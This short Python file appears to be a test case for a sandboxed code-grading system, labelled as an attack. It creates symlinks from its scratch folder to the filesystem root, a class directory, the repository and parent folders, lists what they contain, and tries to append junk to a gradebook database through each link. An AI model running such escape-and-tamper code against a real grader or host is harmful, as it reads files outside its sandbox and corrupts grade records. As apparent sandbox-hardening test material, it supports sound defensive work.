# answer: sigmoid
# base: blank
# attack: symlinks out of the scratch folder to the host's files, the class folder and the repository
import os
for name, target in (("root", "/"), ("class", "__CLASS_DIR__"), ("repo", "__REPO__"), ("up", "../../..")):
    try:
        os.symlink(target, name)
        print(name, "->", target, sorted(os.listdir(name))[:20])
        open(os.path.join(name, "gradebook.db"), "ab").write(b"junk")
        print("wrote through", name)
    except OSError as err:
        print(name, type(err).__name__, err)
